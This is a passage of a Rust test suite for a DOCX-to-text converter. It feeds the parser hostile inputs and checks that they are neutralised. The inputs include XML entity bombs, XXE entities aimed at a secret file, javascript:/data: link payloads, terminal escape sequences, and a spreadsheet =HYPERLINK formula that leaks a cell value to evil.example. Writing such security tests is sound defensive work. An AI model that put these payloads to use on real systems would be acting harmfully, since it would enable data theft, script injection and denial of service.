    let step = (xml.len() / 64).max(1);
    for (n, at) in (0..xml.len()).step_by(step).enumerate() {
        let mut bad = xml.clone();
        bad[at] = if n % 2 == 0 { b'<' } else { b'&' };
        if let Err(e) = convert(&with_raw_main(&bad)) {
            assert_one_line(&e);
            assert_eq!(e.part(), Some("word/raw.xml"));
            if e.kind_name() == "not_word" {
                // A namespace URI of the root element damaged: it is no longer Word's.
                assert!(at < root_tag_end, "at {at}: {e}");
                continue;
            }
            assert_eq!(e.kind_name(), "malformed_xml", "at {at}: {e}");
            assert!(e.position().is_some());
        }
    }
}

#[test]
fn invalid_utf8_is_repaired_with_a_warning() {
    let xml = main_xml(&small_docx());
    let text = String::from_utf8(xml).unwrap();
    let mut bad = text
        .replace("Last paragraph", "Last \u{1}PLACE paragraph")
        .into_bytes();
    assert_eq!(patch_all(&mut bad, b"\x01PLACE", b"\xff\xfe\xc3(\x80Z"), 1);
    let doc = convert(&with_raw_main(&bad)).unwrap();
    assert!(
        has_warning(&doc, WarningCode::InvalidUtf8),
        "{:?}",
        doc.warnings
    );
    assert!(
        doc.warnings.iter().any(|w| w.part == "word/raw.xml"),
        "{:?}",
        doc.warnings
    );
    let all = texts(&doc).join("\n");
    assert!(all.contains("Last \u{FFFD}"), "{all}");
    assert!(all.contains("paragraph: café, 中文."), "{all}");
}

#[test]
fn utf16_main_part_reads_like_utf8() {
    let d = small_docx();
    let utf8 = main_xml(&d);
    let baseline = convert(&with_raw_main(&utf8)).unwrap();
    let expected = texts(&baseline);
    let text =
        String::from_utf8(utf8)
            .unwrap()
            .replacen("encoding=\"UTF-8\"", "encoding=\"UTF-16\"", 1);
    assert!(text.contains("UTF-16"));
    let le: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let be: Vec<u8> = [0xFE, 0xFF]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_be_bytes))
        .collect();
    let le_no_bom: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    for (name, bytes) in [("LE", le), ("BE", be), ("LE without BOM", le_no_bom)] {
        let doc = convert(&with_raw_main(&bytes)).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(texts(&doc), expected, "{name}");
        assert_eq!(doc.warnings, baseline.warnings, "{name}");
    }
    assert!(expected.iter().any(|t| t.contains("café, 中文")));
}

#[test]
fn utf8_bom_is_accepted() {
    let xml = main_xml(&small_docx());
    let mut with_bom = vec![0xEF, 0xBB, 0xBF];
    with_bom.extend_from_slice(&xml);
    let doc = convert(&with_raw_main(&with_bom)).unwrap();
    assert!(texts(&doc).contains(&"Title of the test".to_string()));
}

const W_NS: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

fn document_with_doctype(doctype: &str, body: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{doctype}\n\
         <w:document xmlns:w=\"{W_NS}\"><w:body>{body}</w:body></w:document>"
    )
    .into_bytes()
}

#[test]
fn billion_laughs_is_not_expanded() {
    let mut doctype = String::from("<!DOCTYPE w:document [\n<!ENTITY lol0 \"lol\">\n");
    for i in 1..=9 {
        let prev = format!("&lol{};", i - 1).repeat(10);
        doctype.push_str(&format!("<!ENTITY lol{i} \"{prev}\">\n"));
    }
    doctype.push(']');
    doctype.push('>');
    let body = "<w:p><w:r><w:t>before &lol9; after</w:t></w:r></w:p>";
    let bytes = with_raw_main(&document_with_doctype(&doctype, body));
    let started = Instant::now();
    let doc = convert(&bytes).unwrap();
    assert!(started.elapsed() < Duration::from_secs(2));
    let text = texts(&doc).join("\n");
    assert!(!text.contains("lol"), "{text}");
    assert!(text.contains("before") && text.contains("after"), "{text}");
    assert!(all_outputs(&doc).len() < 100_000);

    // The same attack in the styles part.
    let styles = document_with_doctype(&doctype, "");
    let mut d = Docx::new();
    d.set_body(&s::p_text(None, "styles bomb"));
    d.add_part_bytes(
        "word/styles.xml",
        &styles,
        Some("application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"),
    );
    d.add_rel(
        Docx::MAIN,
        RelType::Styles,
        docxtract::synth::Target::Part("word/styles.xml".into()),
    );
    let started = Instant::now();
    let doc = convert(&d.to_bytes()).unwrap();
    assert!(started.elapsed() < Duration::from_secs(2));
    assert_eq!(texts(&doc), ["styles bomb"]);
}

#[test]
fn quadratic_blowup_entity_is_not_expanded() {
    // One large entity referenced many times.
    let big = "A".repeat(100_000);
    let doctype = format!("<!DOCTYPE w:document [<!ENTITY a \"{big}\">]>");
    let body = format!("<w:p><w:r><w:t>{}</w:t></w:r></w:p>", "&a;".repeat(20_000));
    let doc = convert(&with_raw_main(&document_with_doctype(&doctype, &body))).unwrap();
    assert!(all_outputs(&doc).len() < 200_000);
}

#[test]
fn external_entities_are_never_fetched() {
    let dir = tempfile::tempdir().unwrap();
    let secret = format!(
        "SECRET-{}-{}",
        std::process::id(),
        Instant::now().elapsed().as_nanos() ^ 0x5EC2E7
    );
    let path = dir.path().join("secret.txt");
    std::fs::File::create(&path)
        .unwrap()
        .write_all(secret.as_bytes())
        .unwrap();
    let url = format!("file://{}", path.display());
    let doctype = format!(
        "<!DOCTYPE w:document [\n<!ENTITY xxe SYSTEM \"{url}\">\n\
         <!ENTITY % pe SYSTEM \"{url}\">\n%pe;\n<!ENTITY plain SYSTEM \"{}\">\n]>",
        path.display()
    );
    let body = "<w:p><w:r><w:t>x&xxe;y&plain;z</w:t></w:r></w:p>\
                <w:p><w:hyperlink w:anchor=\"&xxe;\"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>";
    let main = document_with_doctype(&doctype, body);

    // In the main part, in the core properties, and in the relationships.
    let core = format!(
        "<?xml version=\"1.0\"?>{doctype}<cp:coreProperties \
         xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" \
         xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>&xxe;</dc:title>\
         <dc:creator>t&xxe;</dc:creator></cp:coreProperties>"
    );
    // In the main part only.
    let doc = convert(&with_raw_main(&main)).unwrap();
    let out = all_outputs(&doc);
    assert!(!out.contains(&secret), "the secret leaked");
    assert!(texts(&doc).join("").contains("xyz"), "{:?}", texts(&doc));

    // In the main part, the core properties and the root relationships.
    let rels = format!(
        "<?xml version=\"1.0\"?>{doctype}<Relationships \
         xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
         <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/raw.xml\"/>\
         <Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties\" Target=\"docProps/core.xml\"/>\
         <Relationship Id=\"rId3\" Type=\"&xxe;\" Target=\"&xxe;\"/>\
         </Relationships>"
    );
    let mut d = Docx::new();
    d.omit_root_rels = true;
    d.set_main_path("word/unused.xml");
    d.raw_entry("_rels/.rels", rels.as_bytes());
    d.raw_entry("word/raw.xml", &main);
    d.raw_entry("docProps/core.xml", core.as_bytes());
    let doc = convert(&d.to_bytes()).unwrap();
    let out = all_outputs(&doc);
    assert!(!out.contains(&secret), "the secret leaked");
    assert!(texts(&doc).join("").contains("xyz"), "{:?}", texts(&doc));
    let json = serde_json::to_string(&doc).unwrap();
    assert!(!json.contains(&secret));
}

fn nested(open: &str, close: &str, depth: usize, inner: &str) -> String {
    let mut s = String::with_capacity((open.len() + close.len()) * depth + inner.len());
    for _ in 0..depth {
        s.push_str(open);
    }
    s.push_str(inner);
    for _ in 0..depth {
        s.push_str(close);
    }
    s
}

#[test]
fn nesting_100000_deep_is_a_limit_error() {
    let deep = 100_000;
    let cases = [
        ("unknown elements", nested("<w:x>", "</w:x>", deep, "")),
        (
            "unknown elements in a paragraph",
            format!("<w:p>{}</w:p>", nested("<w:x>", "</w:x>", deep, "")),
        ),
        (
            "tables",
            nested(
                "<w:tbl><w:tr><w:tc>",
                "<w:p/></w:tc></w:tr></w:tbl>",
                deep / 3,
                "",
            ),
        ),
        (
            "content controls",
            nested(
                "<w:sdt><w:sdtContent>",
                "</w:sdtContent></w:sdt>",
                deep / 2,
                "<w:p/>",
            ),
        ),
        (
            "runs in smart tags",
            format!(
                "<w:p>{}</w:p>",
                nested(
                    "<w:smartTag>",
                    "</w:smartTag>",
                    deep,
                    "<w:r><w:t>x</w:t></w:r>"
                )
            ),
        ),
        (
            "hyperlinks",
            format!(
                "<w:p>{}</w:p>",
                nested("<w:hyperlink>", "</w:hyperlink>", deep, "")
            ),
        ),
        (
            "text boxes",
            nested(
                "<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>",
                "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
                deep / 6,
                "<w:p/>",
            ),
        ),
        (
            "equations",
            format!(
                "<w:p><m:oMath>{}</m:oMath></w:p>",
                nested("<m:f><m:num>", "</m:num></m:f>", deep / 2, "")
            ),
        ),
        (
            "deleted runs",
            format!("<w:p>{}</w:p>", nested("<w:del>", "</w:del>", deep, "")),
        ),
        ("unclosed", "<w:x>".repeat(deep)),
    ];
    for (name, body) in cases {
        let xml = format!(
            "<?xml version=\"1.0\"?><w:document xmlns:w=\"{W_NS}\" \
             xmlns:m=\"http://schemas.openxmlformats.org/officeDocument/2006/math\" \
             xmlns:v=\"urn:schemas-microsoft-com:vml\"><w:body>{body}</w:body></w:document>"
        );
        let bytes = with_raw_main(xml.as_bytes());
        // On a thread with a small stack: a recursive descent would overflow it.
        let result = std::thread::Builder::new()
            .stack_size(1 << 20)
            .spawn(move || {
                let started = Instant::now();
                let r = convert(&bytes).map(|_| ());
                (r, started.elapsed())
            })
            .unwrap()
            .join()
            .unwrap_or_else(|_| panic!("{name}: panicked"));
        let (result, elapsed) = result;
        assert!(elapsed < Duration::from_secs(10), "{name}: {elapsed:?}");
        let err = match result {
            Ok(()) => panic!("{name}: 100,000 levels converted"),
            Err(e) => e,
        };
        assert_one_line(&err);
        assert_eq!(err.kind_name(), "limit", "{name}: {err}");
        assert!(err.to_string().contains("nesting depth"), "{name}: {err}");
        assert_eq!(err.part(), Some("word/raw.xml"), "{name}");
    }
}

#[test]
fn deep_but_legal_document_converts() {
    // Tables nested 100 deep (Word itself allows deep nesting), well under the depth limit.
    let depth = 100;
    let body = nested(
        "<w:tbl><w:tr><w:tc>",
        "<w:p><w:r><w:t>cell</w:t></w:r></w:p></w:tc></w:tr></w:tbl>",
        depth,
        "<w:p><w:r><w:t>deepest</w:t></w:r></w:p>",
    ) + &s::p_text(None, "after");
    let mut d = Docx::new();
    d.set_body(&body);
    let bytes = d.to_bytes();
    // On a thread with the default stack of a rayon worker (2 MiB).
    let doc = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || convert(&bytes))
        .unwrap()
        .join()
        .expect("panicked")
        .unwrap();
    let all = texts(&doc);
    assert!(all.contains(&"deepest".to_string()), "{all:?}");
    assert_eq!(all.iter().filter(|t| *t == "cell").count(), depth);
    assert_eq!(all.last().map(String::as_str), Some("after"));

    // And a long flat run of unknown elements 400 deep converts.
    let mut d = Docx::new();
    d.set_body(&(nested("<w:x>", "</w:x>", 400, "") + &s::p_text(None, "fine")));
    let doc = convert(&d.to_bytes()).unwrap();
    assert_eq!(texts(&doc), ["fine"]);
}

#[test]
fn huge_attribute_and_text_values() {
    let big = "x".repeat(8 << 20);
    let body =
        format!("<w:p><w:pPr><w:pStyle w:val=\"{big}\"/></w:pPr><w:r><w:t>{big}</w:t></w:r></w:p>");
    let doc = convert(&with_raw_main(
        format!("<w:document xmlns:w=\"{W_NS}\"><w:body>{body}</w:body></w:document>").as_bytes(),
    ))
    .unwrap();
    assert_eq!(doc.blocks.len(), 1);
    assert_eq!(texts(&doc)[0].len(), big.len());
}

// ---------------------------------------------------------------------------------------------
// OLE compound files

/// A minimal OLE compound file: the header and one directory sector with these stream names.
fn ole_with_streams(names: &[&str]) -> Vec<u8> {
    let mut out = vec![0u8; 512];
    out[..8].copy_from_slice(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
    out[0x18..0x1A].copy_from_slice(&0x3Eu16.to_le_bytes()); // minor version
    out[0x1A..0x1C].copy_from_slice(&3u16.to_le_bytes()); // major version 3
    out[0x1C..0x1E].copy_from_slice(&0xFFFEu16.to_le_bytes()); // little endian
    out[0x1E..0x20].copy_from_slice(&9u16.to_le_bytes()); // 512-byte sectors
    out[0x20..0x22].copy_from_slice(&6u16.to_le_bytes()); // 64-byte mini sectors
    out[0x30..0x34].copy_from_slice(&0u32.to_le_bytes()); // first directory sector
    let mut dir = vec![0u8; 512];
    let all: Vec<&str> = std::iter::once("Root Entry")
        .chain(names.iter().copied())
        .collect();
    for (i, name) in all.iter().enumerate().take(4) {
        let entry = &mut dir[i * 128..(i + 1) * 128];
        let utf16: Vec<u8> = name
            .encode_utf16()
            .chain([0])
            .flat_map(u16::to_le_bytes)
            .collect();
        entry[..utf16.len()].copy_from_slice(&utf16);
        entry[0x40..0x42].copy_from_slice(&(utf16.len() as u16).to_le_bytes());
        entry[0x42] = if i == 0 { 5 } else { 2 }; // root storage / stream
    }
    out.extend_from_slice(&dir);
    out
}

#[test]
fn encrypted_package_and_legacy_doc_are_told_apart() {
    let encrypted = ole_with_streams(&["EncryptionInfo", "EncryptedPackage"]);
    let err = expect_err(convert(&encrypted), "encrypted");
    assert!(err.to_string().contains("encrypted"), "{err}");
    let only_package = ole_with_streams(&["EncryptedPackage"]);
    expect_err(convert(&only_package), "encrypted");

    let legacy = ole_with_streams(&["WordDocument", "1Table"]);
    let err = expect_err(convert(&legacy), "legacy_doc");
    assert!(err.to_string().contains(".doc"), "{err}");

    // Just the magic, nothing after it.
    let err = convert(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]).unwrap_err();
    assert!(matches!(
        err.kind_name(),
        "legacy_doc" | "not_zip" | "encrypted"
    ));
    assert_one_line(&err);
}

// ---------------------------------------------------------------------------------------------
// Time

fn big_document(paragraphs: usize) -> Vec<u8> {
    let mut body = String::with_capacity(paragraphs * 80);
    for i in 0..paragraphs {
        body.push_str(&s::p(
            &(s::run(&format!("paragraph {i} ")) + &s::run_rpr("<w:b/>", "bold")),
        ));
    }
    let mut d = Docx::new();
    d.set_body(&body);
    d.to_bytes()
}

#[test]
fn timeout_on_a_big_document() {
    let bytes = big_document(100_000);
    let mut options = Options::default();
    options.timeout = Some(Duration::from_millis(1));
    let started = Instant::now();
    let err = expect_err(convert_with(&bytes, &options), "timeout");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(err.part(), Some("word/document.xml"));
    assert!(err.to_string().contains("timed out"), "{err}");

    // Without a budget the same document converts.
    let doc = convert(&bytes).unwrap();
    assert_eq!(doc.blocks.len(), 100_000);
}

#[test]
fn timeout_inside_a_huge_skipped_subtree() {
    // Millions of events inside an element the reader skips must still see the clock.
    let inner = "<w:x/>".repeat(2_000_000);
    let body =
        format!("<w:p><w:pPr><w:rPr>{inner}</w:rPr></w:pPr></w:p><w:sectPr>{inner}</w:sectPr>");
    let mut d = Docx::new();
    d.xml_compression = Compression::Stored;
    d.set_body(&body);
    let bytes = d.to_bytes();
    let mut options = Options::default();
    options.timeout = Some(Duration::from_millis(1));
    let err = expect_err(convert_with(&bytes, &options), "timeout");
    assert_eq!(err.part(), Some("word/document.xml"));
}

// ---------------------------------------------------------------------------------------------
// Real packages made broken: every fixture, each entry's data damaged.

#[test]
fn every_fixture_with_each_entry_damaged() {
    let files = fixture_files();
    assert!(!files.is_empty());
    let mut rng = Rng(42);
    for file in files {
        let bytes = std::fs::read(&file).unwrap();
        convert(&bytes).unwrap_or_else(|e| panic!("{}: {e}", file.display()));
        // Flip 32 random bytes, one at a time.
        for _ in 0..32 {
            let mut bad = bytes.clone();
            let at = (rng.next() % bad.len() as u64) as usize;
            bad[at] ^= 1 << (rng.next() % 8);
            if let Err(e) = convert(&bad) {
                assert_one_line(&e);
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Round two (issue 14): memory follows the parts read, wrong outcomes, foreign namespaces.

/// A file of `prefix` zero bytes (a hole: nothing is written to disk) and then `package`.
fn write_behind_a_prefix(path: &std::path::Path, prefix: u64, package: &[u8]) {
    use std::io::{Seek, SeekFrom};
    let mut file = std::fs::File::create(path).unwrap();
    file.set_len(prefix).unwrap();
    file.seek(SeekFrom::Start(prefix)).unwrap();
    file.write_all(package).unwrap();
}

#[test]
fn an_input_over_the_size_limit_is_refused_before_a_byte_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("sparse.docx");
    // 3 GiB of holes: reading any of it into memory would take seconds and gigabytes.
    std::fs::File::create(&path)
        .unwrap()
        .set_len(3 << 30)
        .unwrap();
    let limits = Limits::default();
    let started = Instant::now();
    let err = docxtract::read_file(&path, &limits).unwrap_err();
    assert_eq!(err.kind_name(), "limit", "{err}");
    let mut buf = docxtract::batch::SparsePackage::new();
    let err = docxtract::batch::read_file_without_media(&path, &limits, &mut buf).unwrap_err();
    assert_eq!(err.kind_name(), "limit", "{err}");
    assert_eq!(buf.capacity(), 0, "nothing was read");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "it read the file"
    );

    // A reader is cut off at the limit, its buffer never past it.
    let mut small = Limits::default();
    small.max_input_bytes = 1 << 20;
    let err = docxtract::batch::read_all(std::io::repeat(0).take(5 << 20), &small).unwrap_err();
    assert_eq!(err.kind_name(), "limit", "{err}");
    let exact = docxtract::batch::read_all(std::io::repeat(7).take(1 << 20), &small).unwrap();
    assert_eq!(exact.len(), 1 << 20);
    assert!(exact.capacity() <= 1 << 20, "capacity {}", exact.capacity());
}

#[test]
fn a_package_behind_a_large_prefix_is_read_without_the_prefix() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("prefixed.docx");
    let mut d = small_docx();
    let photo: Vec<u8> = (0..200_000u32).map(|i| (i * 7919 % 251) as u8).collect();
    d.xml_compression = Compression::Stored;
    let rid = d.add_image(Docx::MAIN, &photo, "jpeg");
    let pic = s::Picture::new(&rid, 2, "photo");
    d.set_body(&(s::p_text(None, "Behind the prefix.") + &s::p(&s::inline_picture(&pic))));
    let package = d.to_bytes();
    let prefix = 64 << 20;
    write_behind_a_prefix(&path, prefix, &package);

    let mut options = Options::default();
    options.sha256 = true;
    let mut buf = docxtract::batch::SparsePackage::new();
    docxtract::batch::read_file_without_media(&path, &options.limits, &mut buf).unwrap();
    assert!(
        buf.bytes_read() < 64 << 10,
        "{} bytes held for a {} byte file",
        buf.bytes_read(),
        buf.file_len()
    );
    let doc = docxtract::batch::from_sparse(&buf, &options).unwrap();
    assert_eq!(texts(&doc)[0], "Behind the prefix.");
    // The hash is of the whole file, read through once, not held.
    let mut whole = std::fs::File::open(&path).unwrap();
    let mut hasher = Vec::new();
    whole.read_to_end(&mut hasher).unwrap();
    assert_eq!(
        doc.source.sha256.as_deref(),
        Some(&docxtract::batch::sha256_hex(&hasher)[..])
    );
    drop(hasher);
    // The photo, left unread, is read from the file when it is asked for.
    let mut media = Vec::new();
    docxtract::batch::for_each_media(&buf, &doc, &options, |part, bytes| {
        media.push((part.to_string(), bytes.len()));
        Ok(())
    })
    .unwrap();
    assert_eq!(
        media,
        vec![("word/media/image2.jpeg".to_string(), photo.len())]
    );
    assert!(buf.bytes_read() < 64 << 10, "reading the media held it");
}

#[test]
fn overlapping_zip_entries_are_refused_as_a_bomb_design() {
    // One 16 MiB kernel of zeros named by 60 directory entries: 960 MiB from 16 KiB.
    let kernel = deflated_zeros(16);
    let mut entries = minimal_entries("Overlap");
    entries.push(RawEntry {
        name: "word/media/image0.png".into(),
        method: 8,
        flags: 0,
        crc: crc32_of_zeros(16 << 20),
        data: kernel,
        size: 16 << 20,
        extra: Vec::new(),
    });
    let kernel_index = entries.len() - 1;
    let aliases: Vec<(String, usize)> = (1..60)
        .map(|i| (format!("word/media/image{i}.png"), kernel_index))
        .collect();
    let bytes = raw_zip_with_aliases(&entries, &aliases);
    let err = expect_err(convert(&bytes), "corrupt_zip");
    assert!(err.to_string().contains("overlapping ZIP entries"), "{err}");

    // Entries side by side are no overlap, whatever their sizes.
    convert(&raw_zip(&minimal_entries("Side by side"))).unwrap();
}

#[test]
fn a_package_that_is_another_kind_of_document_says_what_it_is() {
    let cases = [
        (
            "xl/workbook.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "an Excel workbook",
        ),
        (
            "ppt/presentation.xml",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            "a PowerPoint presentation",
        ),
        (
            "word/media/photo.jpeg",
            "image/jpeg",
            "an image (image/jpeg)",
        ),
    ];
    for (part, content_type, what) in cases {
        let mut d = small_docx();
        d.add_part_bytes(part, b"<root xmlns=\"urn:x\"/>", Some(content_type));
        d.set_main_target(part);
        let err = expect_err(convert(&d.to_bytes()), "not_word");
        assert_eq!(
            err.to_string(),
            format!("{what}, not a Word document (in {part})")
        );
    }

    // An OpenDocument text has no OPC main part at all: its `mimetype` entry names it.
    let odt = raw_zip(&[
        RawEntry::stored("mimetype", b"application/vnd.oasis.opendocument.text"),
        RawEntry::stored("content.xml", b"<office:document-content/>"),
    ]);
    let err = expect_err(convert(&odt), "not_word");
    assert_eq!(
        err.to_string(),
        "an OpenDocument text (.odt), not a Word document"
    );
}

#[test]
fn elements_in_a_foreign_namespace_are_never_read_as_word_text() {
    // A paragraph whose `w:` is rebound to another namespace, and one in a made-up prefix.
    let body = [
        s::p_text(None, "Real text."),
        r#"<w:p xmlns:w="urn:not-word"><w:r><w:t>forged one</w:t></w:r></w:p>"#.to_string(),
        r#"<x:p xmlns:x="urn:not-word"><w:r><w:t>forged two</w:t></w:r></x:p>"#.to_string(),
        s::p(
            &(s::run("Kept, ")
                + r#"<w:r xmlns:w="urn:evil"><w:t>forged three</w:t></w:r>"#
                + &s::run("and kept.")),
        ),
    ]
    .concat();
    let mut d = Docx::new();
    d.set_body(&body);
    let doc = convert(&d.to_bytes()).unwrap();
    assert_eq!(texts(&doc), vec!["Real text.", "Kept, and kept."]);
    assert!(!all_outputs(&doc).contains("forged"));
    assert!(
        has_warning(&doc, WarningCode::ForeignElementsSkipped),
        "{:?}",
        doc.warnings
    );

    // A whole document in a foreign namespace is no Word document.
    let xml = br#"<w:document xmlns:w="urn:not-word"><w:body><w:p><w:r><w:t>forged</w:t></w:r></w:p></w:body></w:document>"#;
    let err = expect_err(convert(&with_raw_main(xml)), "not_word");
    assert!(err.to_string().contains("another vocabulary"), "{err}");

    // Strict's namespace is Word's.
    let strict = std::fs::read(fixture_path("strict.docx"));
    assert!(!texts(&convert(&strict.unwrap()).unwrap()).is_empty());
}

// ---------------------------------------------------------------------------------------------
// Outputs that attack whoever opens them (issue 14, section 4).

/// Every link and image destination of `md`, as a CommonMark parser reads them.
fn markdown_targets(md: &str) -> Vec<String> {
    use pulldown_cmark::{Event, Parser, Tag};
    Parser::new(md)
        .filter_map(|event| match event {
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                Some(dest_url.into_string())
            }
            _ => None,
        })
        .collect()
}

const SCRIPT_TARGETS: [&str; 8] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "%6Aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
];

#[test]
fn markdown_links_to_script_and_data_targets_lose_the_link_and_keep_the_text() {
    let mut d = Docx::new();
    let mut body = String::new();
    for (i, url) in SCRIPT_TARGETS.iter().enumerate() {
        let rid = d.add_hyperlink(Docx::MAIN, url);
        body.push_str(&s::p(&s::hyperlink(&rid, &s::run(&format!("link {i}")))));
    }
    let fine = d.add_hyperlink(Docx::MAIN, "https://example.com/a");
    body.push_str(&s::p(&s::hyperlink(&fine, &s::run("fine link"))));
    d.set_body(&body);
    let doc = convert(&d.to_bytes()).unwrap();

    let md = render(&doc, Format::Markdown, &WriteOptions::new());
    assert_eq!(markdown_targets(&md), ["https://example.com/a"], "{md}");
    for i in 0..SCRIPT_TARGETS.len() {
        assert!(
            md.contains(&format!("link {i}")),
            "text of link {i} lost: {md}"
        );
    }
    // The JSON keeps every target as the document has it.
    let json = render(&doc, Format::Json, &WriteOptions::new());
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    let mut urls = Vec::new();
    for block in value["blocks"].as_array().unwrap() {
        for inline in block["inlines"].as_array().into_iter().flatten() {
            if let Some(url) = inline["url"].as_str() {
                urls.push(url.to_owned());
            }
        }
    }
    // (An XML parser reads a tab in an attribute as a space.)
    let mut expected: Vec<String> = SCRIPT_TARGETS
        .iter()
        .map(|s| s.replace('\t', " "))
        .collect();
    expected.push("https://example.com/a".into());
    assert_eq!(urls, expected, "{json}");
}

#[test]
fn markdown_images_with_script_targets_keep_their_alt_text_and_lose_the_target() {
    let mut d = Docx::new();
    let mut body = String::new();
    let targets = [
        ("javascript:alert(1)", false),
        (
            "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
            false,
        ),
        ("DATA:text/html,x", false),
        ("data:image/png;base64,iVBORw0KGgo=", true),
        ("https://example.com/photo.jpg", true),
    ];
    for (i, (url, _)) in targets.iter().enumerate() {
        let rid = d.add_linked_image(Docx::MAIN, url);
        let pic = s::Picture::new(&rid, i as u32 + 1, "pic")
            .descr(&format!("alt {i}"))
            .linked();
        body.push_str(&s::p(&s::inline_picture(&pic)));
    }
    d.set_body(&body);
    let doc = convert(&d.to_bytes()).unwrap();
    let md = render(&doc, Format::Markdown, &WriteOptions::new());
    let kept: Vec<&str> = targets
        .iter()
        .filter(|(_, keep)| *keep)
        .map(|(url, _)| *url)
        .collect();
    let live: Vec<String> = markdown_targets(&md)
        .into_iter()
        .filter(|t| !t.is_empty())
        .collect();
    assert_eq!(live, kept, "{md}");
    for i in 0..targets.len() {
        assert!(md.contains(&format!("alt {i}")), "alt text {i} lost: {md}");
    }
    let json = render(&doc, Format::Json, &WriteOptions::new());
    for (url, _) in targets {
        assert!(
            json.contains(&serde_json::to_string(url).unwrap()),
            "{url} not in JSON"
        );
    }
}

/// A document whose every CSV column can start with a formula: text, style, list label,
/// bookmark, image name and description, and its source path.
fn formula_document() -> Document {
    let mut d = Docx::new();
    d.styles(&(s::base_styles("Normal") + &s::para_style("Evil", "+Evil style", None, "", "")));
    d.numbering(
        r#"<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:lvlText w:val="-x"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>"#,
    );
    let rid = d.add_image(Docx::MAIN, PNG_1X1, "png");
    let pic = s::Picture::new(&rid, 1, "=IMAGE(\"x\")").descr("@descr");
    d.set_body(
        &[
            s::p_text(
                None,
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
            ),
            s::p_text(Some("Evil"), "styled"),
            s::p_list(None, 1, 0, "listed"),
            s::p(&(s::bookmark_start(1, "@bookmark") + &s::run("marked") + &s::bookmark_end(1))),
            s::p(&s::inline_picture(&pic)),
            s::p_text(None, "-2+3"),
        ]
        .concat(),
    );
    let mut doc = convert(&d.to_bytes()).unwrap();
    doc.source.path = Some("=HYPERLINK(1).docx".into());
    doc
}

fn csv_cells(doc: &Document, table: CsvTable, raw: bool) -> Vec<String> {
    let options = WriteOptions {
        csv_table: table,
        csv_raw: raw,
        ..WriteOptions::new()
    };
    let csv = render(doc, Format::Csv, &options);
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        cells.extend(record.unwrap().iter().map(str::to_owned));
    }
    cells
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_get_a_quote_in_every_table() {
    let doc = formula_document();
    let formula = |c: &String| c.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let mut neutralized = Vec::new();
    for table in [CsvTable::Blocks, CsvTable::Images, CsvTable::Bookmarks] {
        let cells = csv_cells(&doc, table, false);
        assert!(!cells.is_empty(), "{table:?}");
        let live: Vec<&String> = cells.iter().filter(|c| formula(c)).collect();
        assert!(live.is_empty(), "{table:?}: {live:?}");
        neutralized.extend(cells.into_iter().filter(|c| c.starts_with('\'')));
    }
    for expected in [
        "'=HYPERLINK(1).docx",
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
        "'+Evil style",
        "'-x",
        "'@bookmark",
        "'=IMAGE(\"x\")",
        "'@descr",
        "'-2+3",
    ] {
        assert!(
            neutralized.iter().any(|c| c == expected),
            "{expected:?} not among {neutralized:?}"
        );
    }
}

#[test]
fn csv_raw_writes_cells_as_they_are() {
    let doc = formula_document();
    let cells = csv_cells(&doc, CsvTable::Blocks, true);
    assert!(cells.iter().any(|c| c == "=HYPERLINK(1).docx"), "{cells:?}");
    assert!(cells.iter().any(|c| c == "-2+3"), "{cells:?}");
    assert!(!cells.iter().any(|c| c.starts_with('\'')), "{cells:?}");
}

#[test]
fn control_characters_in_text_are_dropped_from_text_outputs_and_kept_in_json() {
    // ESC c resets a terminal, ESC P opens a device control string, U+009B is CSI.
    let hostile = "reset\u{1b}c bell\u{7} csi\u{9b}31m dcs\u{1b}P0;pwned\u{7} nel\u{85} del\u{7f}";
    let clean = "resetc bell csi31m dcsP0;pwned nel del";
    let mut d = Docx::new();
    d.comments(
